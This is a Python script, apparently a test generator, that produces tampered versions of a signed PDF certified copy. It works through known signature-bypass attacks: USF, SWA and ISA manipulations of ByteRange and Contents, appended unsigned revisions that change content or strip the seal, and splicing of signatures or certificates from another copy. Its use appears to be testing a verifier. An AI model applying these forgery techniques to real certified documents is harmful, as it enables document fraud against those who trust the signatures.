"""What forgers do to a certified copy: writes one PDF for each way into a folder.

    forge.py [--ways flips,swaps,appended,forgeries,savings] COPY SIBLING FOLDER

COPY is signed by leader and seal, at any level; SIBLING is another copy of the same office, to take a signature from.
Bytes are flipped in each region, revisions are appended with pyHanko's writer, and the attacks on ByteRange and
Contents that are known by name are made: USF, SWA, ISA ("1 Trillion Dollar Refund", CCS 2019). A way that the file
leaves no room for (no timestamp token below B-T) is passed over.
"""
import argparse
import datetime
import io
import sys

from asn1crypto import keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers
from pyhanko.sign.timestamps import DummyTimeStamper
from pyhanko.sign.validation import DocumentSecurityStore
from pyhanko_certvalidator.registry import SimpleCertificateStore

sys.dont_write_bytecode = True  # Nothing of ours stays beside the sources.
from regions import LEADER, SEAL, Copy, flips  # noqa: E402


def writer(data):
    return IncrementalPdfFileWriter(io.BytesIO(data))


def revised(data, change):
    out = writer(data)
    change(out)
    target = io.BytesIO()
    out.write(target)
    return target.getvalue()


# Revisions behind the last signature.

def last_page(out):
    page = out.root["/Pages"]
    while "/Kids" in page:
        page = page["/Kids"][-1]
    return page


def field(out, name):
    return next(f for f in (r.get_object() for r in out.root["/AcroForm"]["/Fields"]) if f.get("/T") == name)


def annotate(out):
    note = out.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Square"),
        pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, [0, 0, 600, 800]))}))
    page = last_page(out)
    page["/Annots"].append(note)
    out.update_container(page["/Annots"])
    out.update_container(page)


def add_page(out):
    tree = out.root["/Pages"]
    page = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Page"), pdf_name("/Parent"): out.root.raw_get("/Pages"),
        pdf_name("/MediaBox"): generic.ArrayObject(map(generic.NumberObject, [0, 0, 100, 100]))})
    tree["/Kids"].append(out.add_object(page))
    tree["/Count"] = generic.NumberObject(tree["/Count"] + 1)
    out.update_container(tree)
    out.update_container(tree["/Kids"])


def change_content(out):
    page = last_page(out)
    page["/Contents"] = out.add_object(generic.StreamObject(stream_data=b"0 0 600 800 re f"))
    out.update_container(page)


def fill(out):
    number = field(out, "ChungThucSo")
    number["/V"] = generic.TextStringObject("999/ĐT")
    out.update_container(number)


def move_field(out):
    number = field(out, "ChungThucSo")
    number["/Rect"] = generic.ArrayObject(map(generic.NumberObject, [0, 0, 600, 800]))
    out.update_container(number)


def open_action(out):
    out.root["/OpenAction"] = generic.DictionaryObject({
        pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.TextStringObject("app.alert(1)")})
    out.update_root()


def viewer_preferences(out):
    out.root["/PageMode"] = pdf_name("/FullScreen")
    out.update_root()


def swap_appearance(out):
    leader = field(out, LEADER)
    picture = generic.StreamObject(
        {pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
         pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, [0, 0, 9, 9]))}, stream_data=b"0 0 9 9 re f")
    leader["/AP"] = generic.DictionaryObject({pdf_name("/N"): out.add_object(picture)})
    out.update_container(leader)


def remove_seal(out):
    listed = out.root["/AcroForm"]["/Fields"]
    kept = [listed.raw_get(i) for i in range(len(listed)) if listed[i].get("/T") != SEAL]
    out.root["/AcroForm"]["/Fields"] = generic.ArrayObject(kept)
    out.update_container(out.root["/AcroForm"])


def nothing(out):
    out.add_object(generic.NullObject())


CHANGES = {
    "annotation": annotate, "page": add_page, "content": change_content, "a filled field filled again": fill,
    "field moved": move_field, "catalog, OpenAction": open_action, "catalog, PageMode": viewer_preferences,
    "leader's picture": swap_appearance, "seal's field taken out": remove_seal, "nothing": nothing,
}


def appended(copy):
    for name, change in CHANGES.items():
        yield f"appended, {name}", revised(copy.data, change)
    certificate = copy.signatures[LEADER].signer_cert
    out = io.BytesIO(copy.data)
    DocumentSecurityStore.add_dss(out, None, certs=[certificate])
    yield "appended, DSS", out.getvalue()
    signer = signers.SimpleSigner(*stranger())
    metadata = signers.PdfSignatureMetadata(field_name="KeLa", subfilter=fields.SigSeedSubFilter.PADES)
    yield "appended, a stranger's signature", signers.sign_pdf(writer(copy.data), metadata, signer).getvalue()
    stamper = DummyTimeStamper(*stranger(purpose=True))
    yield "appended, a stranger's document timestamp", signers.PdfTimeStamper(stamper).timestamp_pdf(
        writer(copy.data), "sha256").getvalue()


def stranger(purpose=False):
    """Certificate and key of nobody's, and no further certificates."""
    key = rsa.generate_private_key(65537, 2048)
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "Kẻ lạ")])
    now = datetime.datetime.now(datetime.timezone.utc)
    builder = x509.CertificateBuilder(
        issuer_name=name, subject_name=name, public_key=key.public_key(), serial_number=7,
        not_valid_before=now - datetime.timedelta(days=1), not_valid_after=now + datetime.timedelta(days=9))
    if purpose:
        builder = builder.add_extension(x509.ExtendedKeyUsage([x509.ExtendedKeyUsageOID.TIME_STAMPING]), True)
    encoding = serialization.Encoding.DER
    secret = key.private_bytes(encoding, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    certificate = builder.sign(key, hashes.SHA256()).public_bytes(encoding)
    return (asn1_x509.Certificate.load(certificate), keys.PrivateKeyInfo.load(secret), SimpleCertificateStore())


# ByteRange and Contents.

def with_value(copy, name, key, value, also=change_content):
    def change(out):
        signature = field(out, name).raw_get("/V").get_object()
        if value is None:
            del signature[key]
        else:
            signature[key] = value
        out.update_container(signature)
        if also:
            also(out)
    return revised(copy.data, change)


def numbers(*values):
    return generic.ArrayObject(map(generic.NumberObject, values))


def forgeries(copy):
    size = len(copy.data)
    covered = [int(number) for number in copy.signatures[SEAL].sig_object.raw_get("/ByteRange")]
    ranges = {
        "missing": None, "null": generic.NullObject(), "empty": numbers(), "zeros": numbers(0, 0, 0, 0),
        "negative": numbers(0, -1, covered[2], covered[3]), "overlapping": numbers(0, covered[2], covered[1], size),
        "huge": numbers(0, covered[1], covered[2], 10 ** 15), "three numbers": numbers(*covered[:3]),
        "six numbers": numbers(*covered, size, 10), "whole file": numbers(0, size, size, 0),
    }
    contents = {
        "missing": None, "null": generic.NullObject(), "empty": generic.ByteStringObject(b""),
        "a zero": generic.ByteStringObject(b"\0"), "another dictionary": generic.ByteStringObject(bytes(6000)),
    }
    for title, name in [("leader", LEADER), ("seal", SEAL)]:
        for word, value in ranges.items():
            yield f"USF {title}, ByteRange {word}", with_value(copy, name, "/ByteRange", value)
        for word, value in contents.items():
            yield f"USF {title}, Contents {word}", with_value(copy, name, "/Contents", value)
    yield "SWA, the tail kept in a stream", wrapped(copy, hidden=True)
    yield "SWA, the tail kept behind the end", wrapped(copy, hidden=False)
    yield "SWA, the dictionary with another name", with_value(
        copy, LEADER, "/Name", generic.TextStringObject("Kẻ khác"), also=None)
    for words, offset, value in [("gap wider", 1, -2), ("gap narrower", 1, 2), ("ends early", 3, -9)]:
        changed = list(covered)
        changed[offset] += value
        yield f"ByteRange in place, {words}", in_place(copy, covered, changed)
    yield "ByteRange in place, starts later", in_place(copy, covered, [1, covered[1] - 1, *covered[2:]])


def in_place(copy, covered, changed):
    start = copy.data.rindex(b"/ByteRange [", 0, covered[1]) + 12
    end = copy.data.index(b"]", start)
    text = " ".join(map(str, changed)).encode().ljust(end - start)
    return copy.data[:start] + text + copy.data[end:]


def wrapped(copy, hidden):
    """What the seal signed stays in the file, elsewhere; in its place comes a forged revision."""
    covered = [int(number) for number in copy.signatures[SEAL].sig_object.raw_get("/ByteRange")]
    tail = copy.data[covered[2]:covered[2] + covered[3]]
    marker = 1111111111

    def change(out):
        signature = field(out, SEAL).raw_get("/V").get_object()
        signature["/ByteRange"] = numbers(0, covered[1], marker, len(tail))
        out.update_container(signature)
        change_content(out)
        if hidden:
            out.add_object(generic.StreamObject(stream_data=tail))
    forged = revised(copy.data, change) + (b"" if hidden else tail)
    place = str(forged.rindex(tail)).encode()
    return forged.replace(str(marker).encode(), place.ljust(10))


# Saving more.

def savings(copy):
    data = copy.data
    reference = last_page(copy.reader)["/Contents"]
    number = last_page(copy.reader).raw_get("/Contents").idnum if hasattr(
        last_page(copy.reader).raw_get("/Contents"), "idnum") else 4
    body = f"\n{number} 0 obj\n<< /Length 16 >>\nstream\n0 0 600 800 re f\nendstream\nendobj\n".encode()
    start = int(data[data.rindex(b"startxref") + 9:].split()[0])
    trailer = b"trailer\n<< /Size 20 /Root 1 0 R >>\n"
    yield "ISA, an object without a table", data + body
    yield "ISA, an object and a trailer", data + body + trailer
    yield "ISA, an object and the old startxref", data + body + trailer + b"startxref\n%d\n%%%%EOF\n" % start
    yield "ISA, a startxref to nowhere", data + body + b"startxref\n0\n%%EOF\n"
    yield "a comment behind the end", data + b"% nothing\n"
    yield "zeros behind the end", data + bytes(40)
    yield "cut by a byte", data[:-1]
    yield "cut in the seal's revision", data[:copy.end(LEADER) + 500]
    yield "the leader's revision alone", data[:copy.end(LEADER)]
    yield "something before the header", b"\n" + data


def swaps(copy, sibling):
    for title, name in [("leader", LEADER), ("seal", SEAL)]:
        (start, octets), (other, taken) = copy.contents(name), sibling.contents(name)
        if len(octets) == len(taken):
            yield f"{title}'s signature of another copy", splice(copy, start, taken)
        mine, theirs = (c.signatures[n].signer_cert.dump() for c, n in [
            (copy, name), (copy, SEAL if name == LEADER else LEADER)])
        if len(mine) == len(theirs):
            yield f"{title}'s certificate changed for the other's", splice(copy, start, octets.replace(mine, theirs))


def splice(copy, start, octets):
    return copy.data[:start] + octets.hex().encode() + copy.data[start + 2 * len(octets):]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--ways", default="flips,swaps,appended,forgeries,savings")
    for name in ("copy", "sibling", "folder"):
        parser.add_argument(name)
    asked = parser.parse_args()
    copy, sibling = (Copy(open(name, "rb").read()) for name in (asked.copy, asked.sibling))
    made = {"untouched": copy.data}
    ways = {
        "flips": flips(copy), "swaps": swaps(copy, sibling), "appended": appended(copy), "forgeries": forgeries(copy),
        "savings": savings(copy),
    }
    for way in asked.ways.split(","):
        made.update(ways[way])
    for index, (name, data) in enumerate(made.items()):
        with open(f"{asked.folder}/{index:03} {name.replace('/', '-')}.pdf", "wb") as file:
            file.write(data)
    print(len(made))


main()
